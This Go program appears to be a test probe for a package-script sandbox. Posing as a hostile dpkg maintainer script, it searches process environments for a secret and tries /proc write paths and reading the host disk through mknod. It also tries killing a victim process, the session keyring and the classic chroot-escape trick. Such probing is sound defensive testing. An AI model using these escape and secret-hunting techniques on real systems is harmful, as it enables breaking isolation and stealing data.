// Command hostile is a package's script that means ill: dpkg runs it in the new system's root directory, and it tries to
// get at the machine around that. Each line that it prints with "got" is a success.
package main

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

// targets is what it is after, a file of the package: what the caller's environment and files have, the files' names,
// a process, the caller's session keyring, and the device number of the machine's root.
const targets = "/targets"

var secret, victim, keyring, disk string

var files []string

func main() {
	data, err := os.ReadFile(targets)
	lines := strings.Split(string(data), "\n")
	if err != nil || len(lines) < 6 {
		fmt.Println("hostile: knows no targets:", err)
		os.Exit(1)
	}
	secret, victim, keyring, disk, files = lines[0], lines[1], lines[2], lines[3], lines[4:6]
	environment("its own environment", strings.Join(os.Environ(), "\n"))
	processes()
	_ = unix.Mount("", "/proc", "", unix.MS_REMOUNT, "") // it is read-only
	for _, file := range []string{"/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/vm/drop_caches"} {
		if f, err := os.OpenFile(file, os.O_WRONLY, 0); err == nil { // nothing is written
			f.Close()
			got("to write", file)
		}
	}
	if id, err := unix.KeyctlGetKeyringID(unix.KEY_SPEC_SESSION_KEYRING, false); err == nil && strconv.Itoa(id) == keyring {
		got("the session keyring of", "the caller")
	}
	device()
	if pid, err := strconv.Atoi(victim); err == nil && unix.Kill(pid, unix.SIGKILL) == nil {
		got("to kill", victim)
	}
	if err := escape(); err != nil {
		fmt.Println("hostile: no way out of the root directory:", err)
	}
	read("the way out of the root directory", "/")
	fmt.Println("hostile: done")
}

func got(what ...string) { fmt.Println("hostile: got", strings.Join(what, " ")) }

func environment(where, text string) {
	if strings.Contains(text, secret) {
		got("the secret from", where)
	}
}

// processes looks for the secret in the environment of each process, and for the files behind its directories.
func processes() {
	all, _ := filepath.Glob("/proc/[0-9]*")
	for _, dir := range all {
		if data, err := os.ReadFile(dir + "/environ"); err == nil {
			environment(dir+"/environ", string(data))
		}
		read(dir+"/root", dir+"/root")
		read(dir+"/cwd and up", dir+"/cwd/"+strings.Repeat("../", 40))
	}
}

// read looks for the files below root, and leaves one beside them.
func read(how, root string) {
	for _, file := range files {
		name := root + file // Join would take dots behind a link away
		if data, err := os.ReadFile(name); err == nil && bytes.Contains(data, []byte(secret)) {
			got("the file", file, "by", how)
		}
		if os.WriteFile(name+".hostile", nil, 0o600) == nil {
			got("to write beside", file, "by", how)
		}
	}
}

// device tries to read the machine's disk.
func device() {
	number, err := strconv.ParseUint(disk, 10, 64)
	if err != nil {
		return
	}
	_ = os.Remove("/disk")
	if err := unix.Mknod("/disk", unix.S_IFBLK|0o600, int(number)); err != nil {
		return
	}
	if f, err := os.Open("/disk"); err == nil {
		f.Close()
		got("the disk", disk)
	}
	_ = os.Remove("/disk")
}

// escape is the classic way out of chroot: the working directory stays outside of a new root directory below it.
func escape() error {
	if err := os.MkdirAll("/below", 0o755); err != nil {
		return err
	}
	if err := unix.Chroot("/below"); err != nil {
		return err
	}
	for range 64 {
		if err := unix.Chdir(".."); err != nil {
			return err
		}
	}
	return unix.Chroot(".")
}
